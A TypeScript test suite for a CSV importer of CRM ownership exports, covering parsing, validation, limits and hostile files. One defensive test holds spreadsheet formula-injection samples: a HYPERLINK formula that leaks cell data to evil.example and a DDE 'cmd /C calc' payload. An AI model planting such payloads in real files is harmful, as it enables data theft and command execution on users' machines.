import { readFileSync, readdirSync } from 'node:fs';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { OwnerSchema, OwnershipSchema } from '../model/ownership';
import { decodeCsvBytes } from './decode';
import { CSV_LIMITS, MAX_LISTED_ERRORS, parseOwnersCsv, type OwnersCsvResult } from './owners-csv';

const NOW = Date.UTC(2026, 2, 20, 9);
const FIXTURES = new URL('../../test/fixtures/csv/', import.meta.url);
const bytesOf = (path: string) => new Uint8Array(readFileSync(new URL(path, FIXTURES)));
const fixture = (path: string) => decodeCsvBytes(bytesOf(path));
const read = (path: string, options = {}) => parseOwnersCsv(fixture(path), { now: NOW, ...options });
const ALL_FIXTURES = ['salesforce', 'hubspot', 'pipedrive', 'hostile'].flatMap((dir) => readdirSync(new URL(`${dir}/`, FIXTURES)).map((f) => `${dir}/${f}`));

/** The parts of each record a reader checks, in file order. */
const brief = (result: OwnersCsvResult) =>
  result.records.map((r) => [r.key, r.objectType, r.name, r.email ?? r.domain ?? null, r.ownerId, r.lifecycleStage ?? null]);

describe('Salesforce exports', () => {
  it('an accounts report (Classic "Export Details": CRLF, all quoted, footer)', () => {
    const result = read('salesforce/accounts-report.csv');
    expect(result.format).toMatchObject({ crm: 'salesforce', kind: 'account', objectType: 'Account', label: 'Salesforce accounts report' });
    expect(brief(result)).toEqual([
      ['salesforce:account:0015000000VALDtAAP', 'Account', 'Acme Corporation', 'acme.com', 'person:jane-doe', null],
      ['salesforce:account:0015000000VALDuAAP', 'Account', 'Globex, Inc.', 'globex.com', 'person:jane-doe', null],
      ['salesforce:account:0015000000VALDvAAP', 'Account', 'Initech "Software"', 'initech.com', 'person:bob-o-neil', null],
      // Unowned is real data: the record is kept, with no owner.
      ['salesforce:account:0015000000VALDwAAP', 'Account', 'Umbrella Corp', null, null, null],
      ['salesforce:account:0015000000VALDxAAP', 'Account', 'Øresund Shipping A/S', 'xn--resund-9xa.dk', 'person:søren-kierkegaard', null],
    ]);
    expect(result.owners).toEqual([
      { id: 'person:jane-doe', name: 'Jane Doe', kind: 'person', role: 'other', active: true },
      { id: 'person:bob-o-neil', name: "Bob O'Neil", kind: 'person', role: 'other', active: true },
      { id: 'person:søren-kierkegaard', name: 'Søren Kierkegaard', kind: 'person', role: 'other', active: true },
    ]);
    // The footer ("Grand Totals", "Confidential Information", "Copyright … salesforce.com") is no row of data.
    expect(result.errors).toEqual([{ row: 5, column: 'Website', message: '"n/a" is not a website address; the record was imported without a domain.' }]);
    expect(result.skipped).toBe(0);
  });

  it('a contacts report: emails in lower case, a multi-line title still one row', () => {
    const result = read('salesforce/contacts-report.csv');
    expect(result.format).toMatchObject({ kind: 'contact', objectType: 'Contact' });
    expect(brief(result)).toEqual([
      ['salesforce:contact:0035000000AbCdEAAV', 'Contact', 'Ada Lovelace', 'ada.lovelace@acme.com', 'person:jane-doe', null],
      ['salesforce:contact:0035000000AbCdFAAV', 'Contact', 'Grace Hopper', 'grace@initech.com', 'person:bob-o-neil', null],
      ['salesforce:contact:0035000000AbCdGAAV', 'Contact', 'Alan Turing', null, 'person:jane-doe', null],
    ]);
    expect(result.errors).toEqual([]);
  });

  it("a leads report: leads are contacts of type Lead, Lead Status is the stage, a queue's name does not make it a queue", () => {
    const result = read('salesforce/leads-report.csv');
    expect(result.format).toMatchObject({ kind: 'contact', objectType: 'Lead', label: 'Salesforce leads report' });
    expect(brief(result)).toEqual([
      ['salesforce:contact:00Q5000000XyZaBEAV', 'Lead', 'Hedy Lamarr', 'hedy@wireless.example', 'person:emea-inbound-queue', 'Open - Not Contacted'],
      ['salesforce:contact:00Q5000000XyZaCEAV', 'Lead', 'Katherine Johnson', 'katherine@nasa.example', 'person:jane-doe', 'Working - Contacted'],
    ]);
    expect(result.errors).toEqual([{ row: 4, column: 'Email', message: '"not-an-email" is not an email address.' }]);
  });

  it('a Data Loader extract (capital headers, 18-character ids, Owner.Type) gives the same keys as the report', () => {
    const result = read('salesforce/leads-dataloader.csv');
    expect(result.records.map((r) => r.key)).toEqual(read('salesforce/leads-report.csv').records.map((r) => r.key));
    expect(result.records.map((r) => r.ownerId)).toEqual(['queue:emea-inbound-queue', 'person:jane-doe']);
    expect(result.owners.map((o) => [o.id, o.kind])).toEqual([['queue:emea-inbound-queue', 'queue'], ['person:jane-doe', 'person']]);
  });

  it('a weekly Data Export file (owner as an id only: 00G is a queue)', () => {
    const result = read('salesforce/Account.csv');
    expect(result.format).toMatchObject({ label: 'Salesforce Data Loader export of accounts', kind: 'account' });
    expect(brief(result)).toEqual([
      ['salesforce:account:0015000000VALDtAAP', 'Account', 'Acme Corporation', 'acme.com', 'person:0055000000janedaav', null],
      ['salesforce:account:0015000000VALDuAAP', 'Account', 'Globex, Inc.', 'globex.com', 'queue:00g5000000queueeav', null],
    ]);
    expect(result.owners.map((o) => [o.name, o.kind])).toEqual([['0055000000JaNeDAAV', 'person'], ['00G5000000QuEuEEAV', 'queue']]);
  });

  it('refuses an id of another object, or not shaped like an id, row by row', () => {
    const text = [
      '"Account Owner","Account Name","Account ID"',
      '"Jane Doe","Acme","0035000000AbCdE"',
      '"Jane Doe","Globex","GLOBEX-1"',
      '"Jane Doe","Initech","0015000000VALDv"',
      '"Jane Doe","Umbrella","0015000000VALDw"',
      '"Jane Doe","Hooli","0015000000VALDx"',
    ].join('\n');
    const result = parseOwnersCsv(text, { now: NOW });
    expect(result.records.map((r) => r.recordId)).toEqual(['0015000000VALDvAAP', '0015000000VALDwAAP', '0015000000VALDxAAP']);
    expect(result.errors).toEqual([
      { row: 2, column: 'Account ID', message: '"0035000000AbCdE" is a Contact id; this file is read as accounts.' },
      { row: 3, column: 'Account ID', message: '"GLOBEX-1" is not a Salesforce record id (15 or 18 letters and digits).' },
    ]);
  });
});

describe('HubSpot exports', () => {
  it('contacts (BOM, CRLF): lifecycle stage, unowned contact kept', () => {
    const result = read('hubspot/contacts.csv');
    expect(result.format).toMatchObject({ crm: 'hubspot', kind: 'contact', objectType: '0-1' });
    expect(brief(result)).toEqual([
      ['hubspot:contact:51', '0-1', 'Ada Lovelace', 'ada@acme.com', 'person:grace-hopper', 'Customer'],
      ['hubspot:contact:52', '0-1', 'Alan Turing', 'alan@acme.com', 'person:grace-hopper', 'Lead'],
      ['hubspot:contact:53', '0-1', 'Hedy Lamarr', 'hedy@wireless.example', null, 'Subscriber'],
      ['hubspot:contact:54', '0-1', 'Jean Sammet', 'jean@fortran.example', 'person:katherine-johnson', 'Marketing Qualified Lead'],
    ]);
    expect(result.errors).toEqual([]);
  });

  it('companies: the domain without www.', () => {
    const result = read('hubspot/companies.csv');
    expect(brief(result)).toEqual([
      ['hubspot:account:9001', '0-2', 'Acme Corporation', 'acme.com', 'person:grace-hopper', 'Customer'],
      ['hubspot:account:9002', '0-2', 'Globex', 'globex.com', null, 'Lead'],
      ['hubspot:account:9003', '0-2', 'Initech', null, 'person:katherine-johnson', 'Opportunity'],
    ]);
  });
});

describe('Pipedrive exports', () => {
  it('people: the first of several emails', () => {
    const result = read('pipedrive/people.csv');
    expect(result.format).toMatchObject({ crm: 'pipedrive', kind: 'contact', objectType: 'person' });
    expect(brief(result)).toEqual([
      ['pipedrive:contact:101', 'person', 'Ada Lovelace', 'ada@acme.com', 'person:grace-hopper', null],
      ['pipedrive:contact:102', 'person', 'Alan Turing', null, 'person:grace-hopper', null],
      ['pipedrive:contact:103', 'person', 'Hedy Lamarr', 'hedy@wireless.example', 'person:katherine-johnson', null],
    ]);
  });

  it('organization', () => {
    expect(brief(read('pipedrive/organizations.csv'))).toEqual([
      ['pipedrive:account:7', 'organization', 'Acme Corporation', 'acme.com', 'person:grace-hopper', null],
      ['pipedrive:account:8', 'organization', 'Wireless Ltd', 'wireless.example', 'person:katherine-johnson', null],
    ]);
  });
});

describe('file shapes', () => {
  it('semicolons (with Excel\'s sep= line) read as commas do; row numbers start after sep=', () => {
    const result = read('salesforce/accounts-report-excel-semicolon.csv');
    expect(brief(result)).toEqual([
      ['salesforce:account:0015000000VALDtAAP', 'Account', 'Acme Corporation', 'acme.com', 'person:jane-doe', null],
      ['salesforce:account:0015000000VALDvAAP', 'Account', 'Initech; Software', 'initech.com', 'person:bob-o-neil', null],
    ]);
    const semicolons = read('hubspot/companies-semicolon.csv');
    expect(brief(semicolons)).toEqual([
      ['hubspot:account:9001', '0-2', 'Acme Corporation', 'acme.com', 'person:grace-hopper', null],
      ['hubspot:account:9002', '0-2', 'Globex; Springfield', 'globex.com', null, null],
    ]);
  });

  it('BOM or none, CRLF or LF, quoted or not: the same result', () => {
    const original = fixture('hubspot/contacts.csv');
    const plain = original.replace(/^\ufeff/, '').replace(/\r\n/g, '\n').replace(/"([^",\n]*)"/g, '$1');
    expect(plain).not.toContain('\r');
    expect(parseOwnersCsv(plain, { now: NOW })).toEqual(read('hubspot/contacts.csv'));
  });

  it('header names in another case and spacing', () => {
    const text = ' record id ,FIRST NAME,Last  Name,EMAIL,contact OWNER\n51,Ada,Lovelace,ada@acme.com,Grace Hopper\n';
    expect(brief(parseOwnersCsv(text, { now: NOW }))).toEqual([['hubspot:contact:51', '0-1', 'Ada Lovelace', 'ada@acme.com', 'person:grace-hopper', null]]);
  });

  it('blank lines between and after rows are no rows, and do not shift row numbers', () => {
    const text = 'Person - ID,Person - Owner,Person - Email\n\n101,Grace Hopper,bad\n\n\n102,Grace Hopper,ok@acme.com\n\n\n';
    const result = parseOwnersCsv(text, { now: NOW });
    expect(result.records.map((r) => r.recordId)).toEqual(['102']);
    expect(result.errors).toEqual([{ row: 3, column: 'Person - Email', message: '"bad" is not an email address.' }]);
  });

  it('Excel "Unicode Text" (UTF-16, tabs) and Windows-1252 files, once decoded', () => {
    expect(brief(read('hostile/excel-unicode-text.csv'))).toEqual([['hubspot:account:9001', '0-2', 'Æther Café', null, 'person:søren-kierkegaard', null]]);
    const latin = read('hostile/windows-1252.csv');
    expect(latin.records[0]?.name).toBe('Société Générale');
    expect(latin.owners[0]).toMatchObject({ id: 'person:jose-muller', name: 'José Müller' });
  });

  it('says so when characters were lost to a wrong decoding, and still imports', () => {
    const lossy = new TextDecoder('utf-8').decode(bytesOf('hostile/windows-1252.csv'));
    const result = parseOwnersCsv(lossy, { now: NOW });
    expect(result.records).toHaveLength(1);
    expect(result.errors).toEqual([{ row: 0, message: expect.stringContaining('is not UTF-8') }]);
  });
});

describe('hostile and broken files', () => {
  const fatal = (path: string, message: string, row = 0) => {
    const result = path.startsWith('hostile/') ? read(path) : parseOwnersCsv(path, { now: NOW });
    expect(result).toEqual({ format: null, owners: [], records: [], errors: [{ row, message: expect.stringContaining(message) }], skipped: 0 });
  };

  it('an HTML error page saved as .csv', () => fatal('hostile/html-error-page.csv', 'This is a web page (HTML), not a CSV export'));
  it('binary garbage', () => fatal('hostile/binary-garbage.csv', 'it is binary'));
  it('binary garbage without NUL bytes', () => fatal('\u0001\u0002\u0003\u0004garbage\u0005\u0006\u0007\u0008\u000e\u000f', 'The file is not text'));
  it('an Excel workbook renamed to .csv', () => fatal('hostile/workbook-renamed.csv', 'This is an Excel workbook'));
  it('an empty file', () => fatal('hostile/empty.csv', 'The file is empty.'));
  it('a file of blank lines', () => fatal('hostile/blank-lines-only.csv', 'The file is empty.'));
  it('a file of separators only', () => fatal(',,,\n , ,\n,', 'The file has no header row: every row is empty.'));
  it('a first row far wider than any export', () => fatal(`${'a,'.repeat(6000)}\n1\n`, 'The first row has 6001 columns', 1));
  it('no recognisable header: one error naming the columns found', () => fatal('Name,Phone\nAcme,555\n', 'No owners export recognised. Columns found: "Name", "Phone".', 1));
  it('a header with a broken quote', () => fatal('"Record ID,Email\n1,a@b.co\n', 'never closes', 1));

  it('a header and no rows', () => {
    const result = read('hostile/header-only.csv');
    expect(result.format).toMatchObject({ crm: 'hubspot', kind: 'contact' });
    expect(result.errors).toEqual([{ row: 1, message: 'The file has a header but no data rows.' }]);
  });

  it('an unterminated quote: a clear error with its row, and the other rows imported', () => {
    for (const path of ['hostile/unterminated-quote.csv', 'hostile/unterminated-quote-at-end.csv']) {
      const result = read(path);
      expect(result.records.map((r) => r.recordId), path).toEqual(['0015000000VALDtAAP', '0015000000VALDvAAP']);
      expect(result.errors, path).toEqual([{ row: 3, message: expect.stringMatching(/^The quoted field in column 2 .*this row was skipped\. Look for a stray " in it\.$/) }]);
    }
  });

  it('duplicate rows: the same owner again is skipped, another owner is an error, the first row kept', () => {
    const result = read('hostile/duplicates.csv');
    expect(brief(result)).toEqual([
      ['hubspot:account:9001', '0-2', 'Acme Corporation', 'acme.com', 'person:grace-hopper', null],
      ['hubspot:account:9002', '0-2', 'Globex', 'globex.com', 'person:grace-hopper', null],
      ['hubspot:account:9003', '0-2', 'Initech', null, null, null],
    ]);
    expect(result.skipped).toBe(2);
    expect(result.errors).toEqual([
      { row: 5, column: 'Company owner', message: 'Record 9002 is also on row 4 with owner "Grace Hopper", here with owner "Katherine Johnson"; row 4 was kept.' },
    ]);
    // An owner named only by a refused row is not imported.
    expect(result.owners.map((o) => o.id)).toEqual(['person:grace-hopper']);
  });

  it('formula-looking values stay plain text, never evaluated or altered', () => {
    const result = read('hostile/formula-injection.csv');
    expect(result.records.map((r) => r.name)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", '-2+3']);
    expect(result.owners.map((o) => o.name)).toEqual(['Grace Hopper', '@SUM(1+1)', '=1+1']);
  });

  it('bad rows among good ones: each error has its row and column, the good rows are imported', () => {
    const result = read('hostile/bad-rows.csv');
    expect(result.records.map((r) => r.recordId)).toEqual(['51', '57']);
    expect(result.errors).toEqual([
      { row: 3, column: 'Record ID', message: 'No record id.' },
      { row: 4, column: 'Record ID', message: '"zcrm_52" is not a HubSpot record id (a number).' },
      { row: 5, column: 'Lifecycle Stage', message: 'The lifecycle stage is longer than 100 characters.' },
      { row: 6, column: 'Contact owner', message: "The owner's name is longer than 300 characters." },
      { row: 7, message: 'This row has 7 fields but the header has 6: a value probably holds an unquoted separator.' },
      { row: 8, column: 'Email', message: '"bad@@acme" is not an email address.' },
    ]);
  });

  it('over-long names and emails are refused with their column', () => {
    const name = 'N'.repeat(501);
    const email = `${'e'.repeat(320)}@acme.com`;
    const text = `Organization - ID,Organization - Name,Organization - Owner\n1,${name},Grace\n`;
    expect(parseOwnersCsv(text, { now: NOW }).errors[0]).toEqual({ row: 2, column: 'Organization - Name', message: 'The name is longer than 500 characters.' });
    const people = `Person - ID,Person - Email,Person - Owner\n1,${email},Grace\n`;
    expect(parseOwnersCsv(people, { now: NOW }).errors[0]).toMatchObject({ row: 2, column: 'Person - Email' });
  });

  it('another CRM\'s export is refused, then read with a column mapping', () => {
    expect(read('hostile/zoho-contacts.csv').errors[0]!.message).toContain('are not HubSpot ids of that kind');
    const mapping = { recordId: 'Record Id', owner: 'Contact Owner', firstName: 'First Name', lastName: 'Last Name', email: 'Email' };
    const result = read('hostile/zoho-contacts.csv', { crm: 'zoho', kind: 'contact', mapping });
    expect(result.format?.label).toBe('Custom column mapping');
    expect(brief(result)).toEqual([
      ['zoho:contact:zcrm_4876876000000212', 'contact', 'Sam Lee', 'sam@ridgepg.example', 'person:pat-lee', null],
      ['zoho:contact:zcrm_4876876000000213', 'contact', 'Jo Homeowner', 'jo@example.com', 'person:pat-lee', null],
    ]);
  });

  it('a contacts report without the id column says which column to add', () => {
    expect(read('hostile/salesforce-contacts-no-id.csv').errors).toEqual([
      { row: 1, message: expect.stringContaining('has no "Contact ID" column. Add that column to the export') },
    ]);
  });
});

describe('options', () => {
  it('kind: a contacts report read as its accounts (one row per contact: repeats are skipped)', () => {
    const text = [
      '"Contact Owner","Contact ID","Account Owner","Account Name","Account ID"',
      '"Jane Doe","0035000000AbCdE","Grace Hopper","Acme Corporation","0015000000VALDt"',
      '"Bob O\'Neil","0035000000AbCdG","Grace Hopper","Acme Corporation","0015000000VALDt"',
    ].join('\n');
    expect(brief(parseOwnersCsv(text, { now: NOW }))).toHaveLength(2);
    const accounts = parseOwnersCsv(text, { now: NOW, kind: 'account' });
    expect(brief(accounts)).toEqual([['salesforce:account:0015000000VALDtAAP', 'Account', 'Acme Corporation', null, 'person:grace-hopper', null]]);
    expect(accounts.skipped).toBe(1);
    // The fixture has no "Account Owner" column: nothing to read the accounts' owners from.
    expect(read('salesforce/contacts-report.csv', { kind: 'account' }).errors).toEqual([
      { row: 1, message: expect.stringContaining('Salesforce accounts report, but it has no "Account Owner" column') },
    ]);
  });

  it('mapping: a column of owner types makes queues', () => {
    const text = 'Id,Name,OwnerId,Owner.Name,Kind\n0015000000VALDtAAP,Acme,00G5000000QuEuEEAV,EMEA Queue,Queue\n0015000000VALDuAAP,Globex,0055000000JaNeDAAV,Jane Doe,User\n';
    const result = parseOwnersCsv(text, { now: NOW, mapping: { ownerType: 'Kind' } });
    expect(result.owners.map((o) => [o.id, o.kind])).toEqual([['queue:emea-queue', 'queue'], ['person:jane-doe', 'person']]);
  });

  it('mapping: an owner email column gives email-based owner ids', () => {
    const text = 'Person - ID,Person - Owner,Owner email\n1,Grace Hopper,Grace@Acme.com\n2,Grace Hopper,not an email\n';
    const result = parseOwnersCsv(text, { now: NOW, mapping: { ownerEmail: 'Owner email' } });
    expect(result.owners).toEqual([{ id: 'person:grace@acme.com', name: 'Grace Hopper', kind: 'person', role: 'other', active: true, email: 'grace@acme.com' }]);
    expect(result.errors).toEqual([{ row: 3, column: 'Owner email', message: '"not an email" is not an email address.' }]);
  });
});

describe('guarantees', () => {
  afterEach(() => vi.useRealTimers());

  it.each(ALL_FIXTURES)('%s: the same file twice gives an equal result, and every row passes the schemas', (path) => {
    const first = read(path);
    expect(read(path)).toEqual(first);
    for (const record of first.records) expect(OwnershipSchema.parse(record)).toEqual(record);
    for (const owner of first.owners) expect(OwnerSchema.parse(owner)).toEqual(owner);
    const ownerIds = new Set(first.owners.map((o) => o.id));
    for (const record of first.records) if (record.ownerId !== null) expect(ownerIds.has(record.ownerId)).toBe(true);
    expect(new Set(first.records.map((r) => r.key)).size).toBe(first.records.length);
  });

  it('updatedAt is `now`, or the clock when `now` is not given', () => {
    expect(read('pipedrive/people.csv').records.every((r) => r.updatedAt === NOW)).toBe(true);
    vi.useFakeTimers({ now: NOW + 5 });
    expect(parseOwnersCsv(fixture('pipedrive/people.csv')).records[0]?.updatedAt).toBe(NOW + 5);
  });

  it('refuses a file over 20 MB, counted in UTF-8 bytes', () => {
    const ascii = `Person - ID,Person - Owner\n${'1,x\n'.repeat(CSV_LIMITS.maxBytes / 4 + 1)}`;
    expect(parseOwnersCsv(ascii).errors).toEqual([{ row: 0, message: expect.stringContaining('larger than 20 MB') }]);
    // 7.2 million characters, 21.6 MB: the character count alone would let it through.
    const euros = `Person - ID,Person - Owner\n1,${'€'.repeat(7_200_000)}\n`;
    expect(euros.length).toBeLessThan(CSV_LIMITS.maxBytes);
    expect(parseOwnersCsv(euros).errors[0]?.message).toContain('larger than 20 MB');
  });

  it('reads 200,000 rows and refuses 200,001', () => {
    const rows = (n: number) => `Person - ID,Person - Owner\n${Array.from({ length: n }, (_, i) => `${i + 1},Grace Hopper`).join('\n')}\n`;
    const full = parseOwnersCsv(rows(CSV_LIMITS.maxRows), { now: NOW });
    expect(full.records).toHaveLength(200_000);
    expect(full.errors).toEqual([]);
    expect(parseOwnersCsv(rows(CSV_LIMITS.maxRows + 1), { now: NOW }).errors).toEqual([{ row: 0, message: expect.stringContaining('more than 200,000 rows') }]);
  });

  it('lists at most MAX_LISTED_ERRORS problems, then how many more', () => {
    const text = `Person - ID,Person - Owner,Person - Email\n${'1,Grace,bad\n'.repeat(MAX_LISTED_ERRORS + 500)}`;
    const { errors } = parseOwnersCsv(text, { now: NOW });
    expect(errors).toHaveLength(MAX_LISTED_ERRORS + 1);
    expect(errors.at(-1)).toEqual({ row: 0, message: '…and 500 more problems, not listed.' });
  });
});
